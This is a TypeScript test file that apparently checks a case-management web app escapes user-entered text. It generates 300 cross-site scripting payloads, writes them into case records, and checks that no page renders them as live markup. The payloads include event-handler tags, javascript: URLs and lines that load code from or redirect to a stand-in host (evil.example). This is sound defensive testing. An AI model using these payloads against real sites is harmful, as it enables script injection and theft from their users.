/** Markup and script in somebody's words are shown as they were written and do nothing: each field of words of each act, on each page of a case. */
import { randomUUID } from 'node:crypto'
import fastify, { type FastifyInstance } from 'fastify'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { perform } from '../../src/casework/perform.ts'
import { takeReport } from '../../src/casework/take-report.ts'
import { type TestRowan, testRowan } from '../../src/casework/test-rowan.ts'
import { pointsToEntry } from '../../src/record/entry-type.ts'
import { ENTRY_TYPES, ROLES } from '../../src/record/vocabulary.ts'
import { assetsOfTest } from '../../src/web/assets-of-test.ts'
import { buildWeb } from '../../src/web/build-web.ts'
import { deskOf } from '../../src/web/desk-of-rowan.ts'
import { PAGES } from '../../src/web/pages.ts'

const DOES = ['alert(1)', 'alert`1`', 'top[`al`+`ert`](1)', 'import("//evil.example")', 'location="//evil.example"']
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'details',
  'input',
  'iframe',
  'math',
  'marquee',
  'object',
  'embed',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin']

/** 300 of them: elements with handlers, script in each of its spellings, and ways out of an attribute or element. */
const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) => DOES.slice(0, 4).map((does) => `<${tag} src=x ${event}=${does}>`)),
  ),
  ...DOES.flatMap((does) => [
    `<script>${does}</script>`,
    `<ScRiPt >${does}</sCrIpT>`,
    `</textarea><script>${does}</script>`,
    `"><script>${does}</script>`,
    `' autofocus onfocus=${does} x='`,
    `</title></style></script><script>${does}</script>`,
    `<a href="javascript:${does}">x</a>`,
    `<a href="&#106;avascript:${does}">x</a>`,
    `<form action="javascript:${does}"><button>x</button></form>`,
    `<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:${does}">`,
    `<style>*{background:url("javascript:${does}")}</style>`,
    `&lt;script&gt;${does}&lt;/script&gt;`,
  ]),
]
const EACH = 6

let world: TestRowan
let app: FastifyInstance
let token = ''
let caseId = ''
let recorded = 0
const written = new Set<string>()

beforeAll(async () => {
  world = await testRowan(['vivid'], '2026-06-10T11:00', { playing: true })
  app = fastify()
  const options = { secure: false, leaveTo: 'https://weather.example', assets: await assetsOfTest() }
  await app.register(buildWeb(deskOf(world.rowan), options))
  const roles = ROLES.filter(
    (role) =>
      !['system', 'member-of-public', 'people-team', 'volunteer', 'contractor', 'other-employee'].includes(role),
  )
  token = (await world.staff('vivid', 'Ola', ...roles)).token
  const person = randomUUID()
  const taken = await takeReport(world.rowan, token, {
    role: 'housing-officer',
    report: { channel: 'phone', source: 'victim', summary: PAYLOADS.slice(0, EACH).join(' ') },
    people: [{ person, data: { role: 'victim', name: PAYLOADS[1] ?? '' } }],
  })
  if (taken.outcome !== 'recorded') throw new Error(JSON.stringify(taken))
  caseId = taken.caseId
  let next = 0
  const some = () => {
    const payloads = Array.from({ length: EACH }, () => PAYLOADS[next++ % PAYLOADS.length] ?? '')
    for (const each of payloads) written.add(each)
    return payloads.join(' ')
  }
  for (const { name, scope, example, fields } of ENTRY_TYPES) {
    if (scope === 'organisation' || name === 'case.closed' || name === 'report.received') continue
    const data = Object.fromEntries(
      fields.flatMap((field): readonly (readonly [string, unknown])[] => {
        const shown = example[field.name]
        if (pointsToEntry(name, field.name)) return []
        if (field.personal && field.type === 'text') return [[field.name, some()]]
        if (field.personal && field.type === 'list') return [[field.name, [some()]]]
        if (field.type === 'ref')
          return shown === undefined && !field.required
            ? []
            : [[field.name, field.name === 'person' ? person : randomUUID()]]
        return shown === undefined ? [] : [[field.name, shown]]
      }),
    )
    const done = await perform(world.rowan, token, {
      target: { on: 'case', caseId },
      type: name,
      role: 'da-lead',
      data,
      happened: true,
    }).catch(() => null)
    if (done?.outcome === 'recorded') recorded++
  }
})
afterAll(async () => {
  await app.close()
  await world.close()
})

type Element = DefaultTreeAdapterTypes.Element
const elementsIn = (node: DefaultTreeAdapterTypes.ParentNode): readonly Element[] =>
  node.childNodes.flatMap((child) => ('tagName' in child ? [child, ...elementsIn(child)] : []))

/** Elements and attributes that none of our pages has, and that each of the payloads would bring. */
function foreign(html: string): readonly string[] {
  return elementsIn(parse(html)).flatMap(({ tagName, attrs }) => [
    ...(['iframe', 'object', 'embed', 'base', 'style', 'video', 'audio', 'math', 'marquee', 'img'].includes(tagName)
      ? [tagName]
      : []),
    ...(tagName === 'script' && !attrs.some(({ name, value }) => name === 'src' && value.startsWith('/assets/'))
      ? ['script']
      : []),
    ...(tagName === 'meta' && attrs.some(({ name }) => name === 'http-equiv') ? ['meta'] : []),
    ...attrs.flatMap(({ name, value }) => [
      ...(name.startsWith('on') ? [`${tagName} ${name}`] : []),
      ...(/^\s*(javascript|data|vbscript):/i.test(value) && ['href', 'src', 'action', 'formaction'].includes(name)
        ? [`${tagName} ${name}=${value}`]
        : []),
    ]),
  ])
}

test('300 ways to bring script into a page are written into the words of most acts, and none is anything but words', async () => {
  expect(PAYLOADS.length).toBe(300)
  expect(recorded).toBeGreaterThan(60)
  expect([...written].length).toBe(300)
  let shown = 0
  for (const { path, methods } of PAGES) {
    if (
      !methods.includes('GET') ||
      !path.startsWith('/cases/:reference') ||
      path.replace(':reference', '').includes(':')
    )
      continue
    const { body, statusCode } = await app.inject({ url: path.replace(':reference', caseId), cookies: { s: token } })
    if (statusCode !== 200) continue
    expect(foreign(body), path).toEqual([])
    if (body.includes('&lt;')) shown++
  }
  expect(shown, 'pages on which such words are shown').toBeGreaterThan(20)
})

test('what finds them in a page finds them where they are not written as words', () => {
  const found = PAYLOADS.filter((payload) => foreign(`<!DOCTYPE html><p>${payload}</p>`).length > 0)
  expect(found.length).toBeGreaterThan(270)
})
